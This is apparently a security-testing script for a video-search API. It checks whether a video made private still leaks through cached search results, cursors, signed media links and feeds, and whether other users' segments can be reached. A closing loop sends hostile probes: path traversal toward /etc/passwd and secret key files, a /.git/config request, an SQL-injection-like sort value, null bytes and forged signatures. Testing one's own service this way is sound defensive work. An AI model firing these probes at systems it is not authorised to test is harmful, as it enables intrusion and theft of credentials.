from h import *
import time,re
# window after private: cached answers
v='7'; seg=r('GET','/v1/videos/7/segments').json()['segments'][0]; pid=seg['video_public_id']
loc=r('GET',seg['play_url'].split('#')[0]).headers['location']; tl=r('GET',seg['thumbnail_url']).headers['location']
for _ in range(3): r('GET','/v1/search?q=goat&intent=typing')
h=r('GET','/v1/search?q=goat&intent=typing'); et=h.headers['etag']; cur=r('GET','/v1/search?q=goat&intent=typing&limit=1&relevance_min_ppm=0').json()['next_cursor']
lc=r('GET','/v1/videos?limit=3').json()['next_cursor']
r('PATCH','/v1/videos/7','bruno-ing',json={'visibility':'private'}); t=time.time()
for i in range(10):
  a=r('GET','/v1/search?q=goat&intent=typing'); b=r('GET','/v1/search?q=goat&intent=typing',headers={'If-None-Match':et}); c1=r('GET','/v1/search',params={'cursor':cur})
  print(round(time.time()-t,2),'search',pid in a.text,a.headers['x-pixr-cache'],'304' if b.status_code==304 else b.status_code,'cursor',pid in c1.text,'video',r('GET','/v1/videos/7').status_code,'play',r('GET',seg['play_url'].split('#')[0]).status_code,'thumb',r('GET',seg['thumbnail_url']).status_code,'obj',r('GET',loc,headers={'Range':'bytes=0-1'}).status_code,r('GET',tl).status_code,'completion', r('GET','/v1/completions?q=goa').text[:60], 'feed', pid in r('GET','/v1/feed?limit=50').text,'creator',r('GET','/v1/creators/2').json()['videos'])
  time.sleep(.5)
t0=time.time()
# SSE
x=r('GET','/v1/search/stream?q=goat&intent=typing'); print(x.status_code,pid in x.text)
# unlisted → as image/segment for others; 'highlight' ; POST segment_id by owner
for k in ('ana-ing','none'): print(k,r('POST','/v1/search',k,json={'segment_id':'38'}).status_code,r('POST','/v1/search',k,json={'text':'goat','segment_id':'KhhItbkMSNC8BiJT_0MNtw.0'}).status_code)
# wide unlisted content: does unlisted public view leak numeric ids usable in link?
s=r('GET','/v1/segments/KhhItbkMSNC8BiJT_0MNtw.0').json(); print(s['thumbnail_url'],s['video_id'])
# weird input → 500s?
import itertools
for p in ['/v1/search?q=%00','/v1/search?q=%ff','/v1/videos/%00','/v1/segments/99999999999999999999','/v1/videos/9999999999999999999','/v1/search?q=a&tags='+'x'*5000,'/v1/videos?cursor=AAAA','/v1/search?cursor=AAAA','/v1/search?cursor='+'A'*5000,'/media/videos/1?expires=99999999999999999999&signature=x','/media/videos/-1?expires=1&signature=x','/v1/videos?sort=id;drop','/v1/completions?q='+'a'*3000,'/%2e%2e/%2e%2e/etc/passwd','/web/../app.js','/web/%2e%2e/%2e%2e/secrets/api_admin_key','/web/..%2f..%2fsettings.py','/web/nope.js','//metrics','/metrics/','/-/routes','/-/healthz','/docs/','/redoc','/v1/','/.git/config','/static/','/web/']:
  x=r('GET',p); print(p[:50],x.status_code,x.text[:110].replace('\n',' '))
x=c.post('/v1/search',content=b'{"text":"\\ud800"}',headers={'content-type':'application/json'}); print(x.status_code,x.text[:200])
x=c.post('/v1/search',content=b'{"image":"s3://pixr/queries/\\u0000"}',headers={'content-type':'application/json'}); print(x.status_code,x.text[:200])
